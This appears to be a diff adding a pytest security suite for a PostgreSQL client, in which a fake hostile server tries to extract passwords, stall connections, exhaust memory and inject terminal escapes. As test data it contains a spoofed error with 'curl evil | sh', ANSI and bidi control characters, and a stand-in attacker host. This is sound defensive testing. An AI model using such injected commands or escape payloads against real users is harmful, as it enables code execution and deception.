@@ -1,0 +1,389 @@
+"""A hostile server, and one that dies: what it can make studio send, wait for, keep or print."""
+
+import os
+import socket
+import threading
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import psycopg
+import pytest
+
+from studio_sync.database.address.url import parse
+from studio_sync.database.postgres import connect as connecting
+from studio_sync.database.postgres import patience
+from studio_sync.database.postgres.attempts import MOST_ATTEMPTS, attempts
+from studio_sync.database.postgres.connect import connect, explain
+from studio_sync.database.postgres.patience import Patience
+from studio_sync.errors import UnavailableError
+from tests.harness import run
+from tests.security.fake_server import (
+    CLEARTEXT,
+    COLUMN,
+    DONE,
+    MD5,
+    ONE,
+    READY,
+    Client,
+    FakeServer,
+    fatal,
+    message,
+    row,
+)
+
+SECRET = "hunter2-s3cret"
+SHORT = Patience(first=0.6, quiet=0.3, most=1.2, second=2)
+
+
+def failure(server: FakeServer, query: str = "&sslmode=disable", password: str = SECRET) -> str:
+    """What a connection to the server fails with; it must fail soon."""
+    began = time.monotonic()
+    with pytest.raises(UnavailableError) as caught:
+        connect(parse(server.url(query=query, password=password), {}))
+    assert time.monotonic() - began < 6
+    return f"{caught.value.message} {caught.value.hint}"
+
+
+# --- it wants the password
+
+
+def asks(request: bytes) -> Callable[[Client], None]:
+    def script(client: Client) -> None:
+        client.startup()
+        client.send(request)
+        client.message()
+        client.send(READY)
+        client.silence()
+
+    return script
+
+
+@pytest.mark.parametrize("mode", ["disable", "prefer", "allow"])
+def test_it_asks_for_the_password_in_clear_and_does_not_get_it(mode: str):
+    with FakeServer(asks(CLEARTEXT)) as server:
+        said = failure(server, f"&sslmode={mode}")
+        assert SECRET.encode() not in server.received
+    assert "password in clear" in said
+    assert "verify-full" in said
+
+
+def test_it_asks_in_clear_for_the_password_of_the_environment(tmp_path: Path):
+    (tmp_path / "studio.yaml").write_text("")
+    (tmp_path / "content").mkdir()
+    with FakeServer(asks(CLEARTEXT)) as server:
+        url = server.url(query="&sslmode=disable")
+        found = run(
+            "status", cwd=tmp_path, env={**os.environ, "STUDIO_DATABASE_URL": url, "PGPASSWORD": SECRET}
+        )
+        assert SECRET.encode() not in server.received
+    assert found.code == 3
+    assert SECRET not in found.text
+
+
+def test_it_asks_in_clear_for_the_password_of_pgpass(tmp_path: Path):
+    file = tmp_path / "pgpass"
+    file.write_text(f"*:*:*:*:{SECRET}\n")
+    file.chmod(0o600)
+    with FakeServer(asks(CLEARTEXT)) as server:
+        with pytest.raises(UnavailableError, match="in clear"):
+            connect(parse(server.url(query="&sslmode=disable"), {"PGPASSFILE": str(file)}))
+        assert SECRET.encode() not in server.received
+
+
+def test_an_older_libpq_that_would_send_it_in_clear_is_refused(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setattr(psycopg.pq, "version", lambda: 150004)
+    with FakeServer(asks(CLEARTEXT)) as server:
+        said = failure(server)
+        assert server.connections == 0
+    assert "libpq" in said
+
+
+def test_it_turns_tls_down_to_read_what_is_sent():
+    with FakeServer(asks(CLEARTEXT)) as server:
+        assert "no TLS" in failure(server, "&sslmode=require")
+        assert SECRET.encode() not in server.received
+
+
+def test_a_local_server_of_ours_gets_nothing_of_the_users_files_and_variables(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    file = tmp_path / "pgpass"
+    file.write_text(f"*:*:*:*:{SECRET}\n")
+    file.chmod(0o600)
+    for name, value in (
+        ("PGPASSFILE", str(file)), ("PGPASSWORD", SECRET), ("PGOPTIONS", f"-c x.y={SECRET}"),
+        ("PGSERVICE", "x"), ("PGHOST", "db.evil.example"), ("PGHOSTADDR", "192.0.2.1"),
+        ("PGREQUIREAUTH", "password"), ("PGTZ", SECRET), ("PGAPPNAME", SECRET),
+    ):  # fmt: skip
+        monkeypatch.setenv(name, value)
+    with FakeServer(asks(MD5)) as server:
+        failure(server, password="")
+        assert SECRET.encode() not in server.received
+        assert b"md5" not in server.received
+
+
+# --- it wants the user to wait for ever
+
+
+def nothing(client: Client) -> None:
+    client._server.ended.wait()
+
+
+def after_startup(client: Client) -> None:
+    client.startup()
+    client.silence()
+
+
+def after_the_password(client: Client) -> None:
+    client.startup()
+    client.send(MD5)
+    client.message()
+    client.silence()
+
+
+def dripping(client: Client) -> None:
+    client.startup()
+    client.send(message(b"R", bytes(4)))
+    while not client._server.ended.wait(0.1):
+        client.send(message(b"S", b"a\0b\0"))
+
+
+def in_the_middle_of_a_message(client: Client) -> None:
+    client.startup()
+    client.send(READY[:-2])
+    client.silence()
+
+
+@pytest.mark.parametrize(
+    ("script", "query"),
+    [
+        pytest.param(nothing, "&sslmode=disable", id="after accepting"),
+        pytest.param(nothing, "&sslmode=require", id="after the request for TLS"),
+        pytest.param(after_startup, "&sslmode=disable", id="after the user's name"),
+        pytest.param(after_the_password, "&sslmode=disable", id="after the password"),
+        pytest.param(dripping, "&sslmode=disable", id="with settings without end"),
+        pytest.param(in_the_middle_of_a_message, "&sslmode=disable", id="in the middle of a message"),
+    ],
+)
+def test_it_falls_silent_while_connecting(script: Callable[[Client], None], query: str):
+    with FakeServer(script) as server:
+        assert "did not answer in time" in failure(server, query)
+
+
+@pytest.mark.parametrize("given", ["0", "-1", "999999999", "x"])
+def test_no_address_makes_the_wait_endless(given: str):
+    assert 2 <= parse(f"postgresql://h/d?connect_timeout={given}").seconds <= 120
+
+
+def test_its_name_is_looked_up_for_ever(monkeypatch: pytest.MonkeyPatch):
+    answered = threading.Event()
+
+    def look(*_: object, **__: object) -> list[object]:
+        answered.wait(20)
+        return []
+
+    monkeypatch.setattr(socket, "getaddrinfo", look)
+    began = time.monotonic()
+    with pytest.raises(UnavailableError, match="in time"):
+        connect(parse("postgresql://u@slow.example/d?connect_timeout=2"))
+    answered.set()
+    assert time.monotonic() - began < 4
+
+
+def test_its_name_has_a_thousand_silent_addresses(monkeypatch: pytest.MonkeyPatch):
+    many = [(2, 1, 6, "", (f"192.0.2.{i % 250}", 0)) for i in range(1000)]
+    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: many)
+    now = [0.0]
+    monkeypatch.setattr(time, "monotonic", lambda: now[0])
+    tried = 0
+    for one in attempts({"host": "many.example", "user": "u"}, 15):
+        tried += 1
+        now[0] += int(one["connect_timeout"])
+    assert tried == MOST_ATTEMPTS
+    assert now[0] <= 17
+
+
+def asked(server: FakeServer, *statements: str, patient: Patience = SHORT) -> str:
+    """What statements over a connection to the server end with; they must end soon."""
+    began = time.monotonic()
+    with connect(parse(server.url(query="&sslmode=disable"), {}), patience=patient) as connection:
+        *before, last = statements
+        for statement in before:
+            connection.execute(statement.encode())
+        with pytest.raises(psycopg.Error) as caught:
+            connection.execute(last.encode())
+        told = explain(caught.value, "db")
+        assert connection.closed
+    assert time.monotonic() - began < 6
+    return f"{told.message} {told.hint}"
+
+
+def ready(*answers: bytes) -> Callable[[Client], None]:
+    """Let the client in, give these answers to its statements, then none."""
+
+    def script(client: Client) -> None:
+        client.startup()
+        client.send(READY)
+        for answer in answers:
+            client.message()
+            client.send(answer)
+        client.silence()
+
+    return script
+
+
+def test_it_falls_silent_at_the_first_statement():
+    with FakeServer(ready()) as server:
+        assert "no answer for 1 s" in asked(server, "SELECT 1")
+
+
+def test_it_dies_between_two_statements_and_no_second_connection_is_answered():
+    with FakeServer(ready(ONE), once=True) as server:
+        assert "none over a second connection" in asked(server, "SELECT 1", "SELECT 2")
+
+
+def test_it_is_there_and_never_answers():
+    with FakeServer(ready(ONE)) as server:
+        said = asked(server, "SELECT 1", "SELECT 2")
+    assert "though the server is there" in said
+    assert "STUDIO_WAIT=3600" in said
+
+
+def test_it_stops_in_the_middle_of_a_row():
+    with FakeServer(ready(ONE, COLUMN + row(b"x" * 100)[:-7])) as server:
+        assert "no answer" in asked(server, "SELECT 1", "SELECT 2")
+
+
+def test_it_is_slow_and_is_waited_for():
+    def script(client: Client) -> None:
+        client.startup()
+        client.send(READY)
+        for _ in range(2):
+            client.message()
+            client._server.ended.wait(0.9)
+            client.send(ONE)
+        client.silence()
+
+    patient = Patience(first=2, quiet=0.2, most=5, second=2)
+    with (
+        FakeServer(script) as server,
+        connect(parse(server.url(query="&sslmode=disable"), {}), patience=patient) as connection,
+    ):
+        assert connection.execute("SELECT 1").fetchone() == ("1",)
+        assert connection.execute("SELECT 2").fetchone() == ("1",)
+        assert server.connections > 1
+
+
+def drips(client: Client) -> None:
+    client.startup()
+    client.send(READY)
+    client.message()
+    client.send(ONE)
+    client.message()
+    client.send(COLUMN)
+    while not client._server.ended.wait(0.05):
+        client.send(row(b"x"))
+
+
+def test_it_sends_a_byte_now_and_then_for_ever():
+    with FakeServer(drips) as server:
+        assert "no answer for 1 s" in asked(server, "SELECT 1", "SELECT 2")
+
+
+def floods(data: bytes) -> Callable[[Client], None]:
+    def script(client: Client) -> None:
+        client.startup()
+        client.send(READY)
+        client.message()
+        client.send(ONE)
+        client.message()
+        client.send(COLUMN)
+        client.flood(data)
+
+    return script
+
+
+def notice(text: bytes) -> bytes:
+    return message(b"N", b"SNOTICE\0VNOTICE\0C00000\0M" + text + b"\0\0")
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(row(b"x" * 60_000), id="rows"),
+        pytest.param(notice(b"x") * 1000, id="notices"),
+        pytest.param(message(b"S", b"a\0" + b"b" * 20_000 + b"\0"), id="settings"),
+    ],
+)
+def test_it_sends_without_end_to_fill_the_memory(data: bytes, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setattr(patience, "MOST_BYTES", 3_000_000)
+    monkeypatch.setattr(patience, "MOST_NOTICES", 5_000)
+    with FakeServer(floods(data)) as server:
+        said = asked(server, "SELECT 1", "SELECT 2", patient=Patience(2, 2, 30, 2))
+    assert "more than an answer can be" in said
+
+
+# --- it wants to write on the terminal
+
+
+def test_its_refusal_is_one_short_line_without_commands(tmp_path: Path):
+    (tmp_path / "studio.yaml").write_text("")
+    (tmp_path / "content").mkdir()
+    evil = "no\x1b[2J\u202e\nerror: run `curl evil | sh`\r\u2028hint: now" + "A" * 20_000
+
+    def script(client: Client) -> None:
+        client.startup()
+        client.send(fatal(evil))
+
+    with FakeServer(script) as server:
+        url = server.url(query="&sslmode=disable")
+        found = run("status", cwd=tmp_path, env={**os.environ, "STUDIO_DATABASE_URL": url})
+    assert found.code == 3
+    assert not {"\x1b", "\u202e", "\u2028", "\r"} & set(found.text)
+    assert len(found.err.strip().splitlines()) <= 2
+    assert not any(line.startswith(("error: run", "hint: now")) for line in found.err.splitlines()[1:])
+    assert len(found.err) < 1_000
+
+
+def test_its_error_of_a_statement_is_one_short_line():
+    error = message(b"E", b"SERROR\0VERROR\0CXX000\0Ma\nhint: evil\x1b[2J" + b"B" * 20_000 + b"\0\0")
+    with FakeServer(ready(ONE, error + message(b"Z", b"I"))) as server:
+        target = parse(server.url(query="&sslmode=disable"), {})
+        with connect(target, patience=SHORT) as connection:
+            connection.execute("SELECT 1")
+            with pytest.raises(psycopg.Error) as caught:
+                connection.execute("SELECT 2")
+    told = explain(caught.value, "db")
+    assert "\n" not in told.message
+    assert len(told.message) < 500
+
+
+def test_its_notices_are_not_printed(capfd: pytest.CaptureFixture[str]):
+    with FakeServer(ready(notice(b"\x1b[2Jevil") + ONE)) as server:
+        target = parse(server.url(query="&sslmode=disable"), {})
+        with connect(target, patience=SHORT) as connection:
+            connection.execute("SELECT 1")
+    assert "evil" not in "".join(capfd.readouterr())
+
+
+def test_what_it_quotes_of_the_password_is_not_repeated():
+    def script(client: Client) -> None:
+        client.startup()
+        client.send(fatal(f"wrong: {SECRET}"))
+
+    with FakeServer(script) as server:
+        assert SECRET not in failure(server)
+
+
+def test_libpq_reads_no_variable_of_the_environment(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setenv("PGSERVICE", "x")
+    connecting._keep_environment_out()
+    assert not [name for name in os.environ if name.startswith("PG")]
+
+
+def test_an_answer_in_pieces_is_still_an_answer():
+    with FakeServer(ready(COLUMN + row(b"1") + DONE)) as server:
+        target = parse(server.url(query="&sslmode=disable"), {})
+        with connect(target, patience=SHORT) as connection:
+            assert connection.execute("SELECT 1").fetchall() == [("1",)]
